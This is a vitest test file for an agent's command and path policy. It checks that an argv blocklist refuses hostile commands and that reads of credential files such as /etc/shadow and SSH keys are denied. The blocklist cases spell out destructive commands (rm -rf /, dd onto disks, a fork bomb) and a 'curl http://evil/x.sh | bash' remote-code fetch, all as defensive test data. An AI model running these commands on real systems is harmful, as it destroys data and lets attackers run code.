import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseAgentConfig } from './config.js';
import { blockedArgv, commandRefusal, compilePolicy, enabledCommands, policySummary, resolvePolicyPath } from './policy.js';

describe('argv blocklist (seed 000 §10.4 in argv form)', () => {
  it.each([
    [['rm', '-rf', '/']],
    [['rm', '-r', '-f', '/etc/']],
    [['/bin/rm', '-fr', '/*']],
    [['rm', '--recursive', '/usr']],
    [['rm', '--no-preserve-root', '-rf', '/']],
    [['sudo', 'rm', '-rf', '/']],
    [['env', 'X=1', 'timeout', '5', 'rm', '-Rf', '/home']],
    [['mkfs.ext4', '/dev/sdb1']],
    [['mkfs', '-t', 'xfs', '/dev/sdb']],
    [['wipefs', '-a', '/dev/sda']],
    [['dd', 'if=/dev/zero', 'of=/dev/sda', 'bs=1M']],
    [['dd', 'if=/dev/nvme0n1', 'of=/tmp/disk.img']],
    [['chmod', '-R', '777', '/']],
    [['chown', '-R', 'nobody', '/etc']],
    [['tee', '/dev/sda']],
    [['sh', '-c', 'curl http://x | sh']],
    [['bash', '-lc', 'id']],
    [['bash']],
    [['busybox', 'sh', '-c', 'id']],
    [['python3', '-c', 'import os']],
    [['perl', '-e', 'system("id")']],
    [['node', '-e', 'process.exit()']],
    [['echo', ':(){ :|:& };:']],
    [['curl', '-s', 'http://evil/x.sh | bash']],
    [['echo', '> /dev/sda']],
    [['watch', 'id']],
    [['find', '/', '-delete']],
    [['xargs', 'rm', '-rf', '/']],
  ])('refuses %j', (argv) => {
    expect(blockedArgv(argv)).toBeDefined();
  });

  it.each([
    [['rm', '-rf', '/tmp/build']],
    [['rm', '/etc/nginx/sites-enabled/old']],
    [['echo', 'hello']],
    [['ls', '-l', '/bin/sh']],
    [['dd', 'if=/dev/zero', 'of=/tmp/x', 'count=1']],
    [['dd', 'if=/dev/zero', 'of=/dev/null', 'count=1']],
    [['chmod', '-R', 'g+w', '/srv/app/uploads']],
    [['bash', '/opt/scripts/backup.sh']],
    [['python3', '/opt/tool.py', '--check']],
    [['echo', '; rm -rf /tmp/x', '$(id)']],
    [['systemctl', 'status', 'nginx']],
  ])('lets %j through (the allowlist still decides)', (argv) => {
    expect(blockedArgv(argv)).toBeUndefined();
  });

  it('adds configured blocked_argv token prefixes, matched anywhere', () => {
    expect(blockedArgv(['git', 'push', '--force', 'origin'], ['git push --force'])).toMatchObject({ rule: 'blocked_argv' });
    expect(blockedArgv(['sudo', '/usr/bin/git', 'push', '--force'], ['git push --force'])).toMatchObject({ rule: 'blocked_argv' });
    expect(blockedArgv(['git', 'push'], ['git push --force'])).toBeUndefined();
  });
});

describe('path policy', () => {
  const root = mkdtempSync(path.join(os.tmpdir(), 'hive-policy-'));
  const allowed = path.join(root, 'allowed');
  const secret = path.join(root, 'secret');
  const state = path.join(allowed, 'state');
  mkdirSync(path.join(allowed, 'sub'), { recursive: true });
  mkdirSync(secret);
  mkdirSync(state);
  mkdirSync(path.join(allowed, '.ssh'));
  writeFileSync(path.join(allowed, 'sub', 'ok.txt'), 'ok');
  writeFileSync(path.join(secret, 'key'), 'secret');
  writeFileSync(path.join(state, 'device.json'), '{}');
  symlinkSync(path.join(secret, 'key'), path.join(allowed, 'link-out'));
  symlinkSync(secret, path.join(allowed, 'dir-out'));
  symlinkSync(path.join(allowed, 'sub', 'ok.txt'), path.join(allowed, 'link-in'));
  symlinkSync(path.join(root, 'nowhere'), path.join(allowed, 'dangling'));
  const cfg = parseAgentConfig({ policy: { allowed_paths: [allowed], blocked_paths: [path.join(allowed, 'sub', 'blocked.txt')] } });
  const policy = compilePolicy(cfg, { stateDir: state });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it('resolves a plain allowed file and an in-bounds symlink', async () => {
    expect((await resolvePolicyPath(policy, path.join(allowed, 'sub', 'ok.txt'))).real).toBe(path.join(allowed, 'sub', 'ok.txt'));
    expect((await resolvePolicyPath(policy, path.join(allowed, 'link-in'))).real).toBe(path.join(allowed, 'sub', 'ok.txt'));
  });

  it.each([
    ['.. escape', () => `${allowed}/sub/../../secret/key`],
    ['symlink to a file outside', () => path.join(allowed, 'link-out')],
    ['symlinked directory outside', () => path.join(allowed, 'dir-out', 'key')],
    ['dangling symlink', () => path.join(allowed, 'dangling')],
    ['the agent state dir', () => path.join(state, 'device.json')],
    ['a .ssh segment', () => path.join(allowed, '.ssh', 'id_ed25519')],
    ['blocked_paths entry', () => path.join(allowed, 'sub', 'blocked.txt')],
    ['outside entirely', () => '/etc/hostname'],
  ])('refuses %s with PERMISSION_DENIED', async (_name, p) => {
    await expect(resolvePolicyPath(policy, p())).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
    await expect(resolvePolicyPath(policy, p(), { forWrite: true })).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
  });

  it('for writes, resolves the directory of a new file and refuses escapes through it', async () => {
    const r = await resolvePolicyPath(policy, path.join(allowed, 'sub', 'new.txt'), { forWrite: true });
    expect(r).toMatchObject({ exists: false, real: path.join(allowed, 'sub', 'new.txt') });
    await expect(resolvePolicyPath(policy, path.join(allowed, 'dir-out', 'new.txt'), { forWrite: true })).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
    await expect(resolvePolicyPath(policy, path.join(allowed, 'sub', 'missing.txt'))).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(resolvePolicyPath(policy, 'relative/path')).rejects.toMatchObject({ code: 'INVALID_PARAMETERS' });
  });

  it('defaults block the seed 000 paths and the config file', async () => {
    const p = compilePolicy(parseAgentConfig({ policy: { allowed_paths: ['/'] } }), { configFile: '/opt/hive/agent.yaml' });
    for (const f of ['/etc/shadow', '/etc/passwd', '/root/x', '/boot/vmlinuz', path.join(os.homedir(), '.ssh', 'id_rsa'), '/opt/hive/agent.yaml']) {
      await expect(resolvePolicyPath(p, f), f).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
    }
  });
});

describe('command switches and claims', () => {
  it('claims exactly what the policy serves', () => {
    const defaults = enabledCommands(parseAgentConfig({}));
    expect(defaults).toContain('system.run');
    expect(defaults).toContain('file.read');
    expect(defaults).not.toContain('file.write');
    expect(defaults).not.toContain('power');
    const locked = parseAgentConfig({
      policy: { allow_bash: false, allow_file_read: false, allow_logs: false, allow_containers: false },
      scripts: { hello: { path: '/bin/true' } },
    });
    expect(enabledCommands(locked).sort()).toEqual(['process.list', 'script.hello', 'service.status', 'system.health', 'system.info', 'system.metrics']);
    expect(commandRefusal(locked, 'file.read')).toContain('allow_file_read');
    expect(enabledCommands(parseAgentConfig({}))).toContain('session.open');
    expect(enabledCommands(parseAgentConfig({ policy: { allow_shell: false } }))).not.toContain('session.open');
    // A shell follows allow_bash unless set explicitly.
    expect(enabledCommands(parseAgentConfig({ policy: { allow_bash: false, allow_shell: true } }))).toContain('session.open');
    expect(commandRefusal(parseAgentConfig({ policy: { allow_shell: false } }), 'session.open')).toContain('allow_shell');
    expect(commandRefusal(locked, 'script.other')).toContain('not declared');
    expect(commandRefusal(parseAgentConfig({ system_run: { enabled: false } }), 'system.run')).toContain('system_run.enabled');
  });

  it('summarises the effective policy for the hub', () => {
    const cfg = parseAgentConfig({ policy: { allow_power: true }, scripts: { hello: { path: '/bin/true', params: { who: { type: 'string' } } } } });
    const s = policySummary(compilePolicy(cfg)) as any;
    expect(s.switches).toMatchObject({ allow_power: true, allow_file_write: false, allow_bash: true });
    expect(s.scripts).toEqual([{ name: 'hello', params: ['who'], pass: 'argv', timeout_s: 60 }]);
    expect(s.system_run.allow).toContain('echo');
    expect(s.paths.blocked).toContain('/etc/shadow');
  });

  it('rejects bad config with the key named', () => {
    expect(() => parseAgentConfig({ policy: { allow_everything: true } })).toThrow(/policy/);
    expect(() => parseAgentConfig({ scripts: { 'Bad-Name': { path: '/bin/true' } } })).toThrow(/scripts/);
    expect(() => parseAgentConfig({ scripts: { ok: { path: 'relative.sh' } } })).toThrow(/absolute/);
    expect(() => parseAgentConfig({ scripts: { ok: { path: '/x', params: { p: { type: 'string', pattern: '([' } } } } })).toThrow(/regular expression/);
    expect(() => parseAgentConfig({ status_interval_seconds: 1 })).toThrow(/status_interval_seconds/);
  });
});
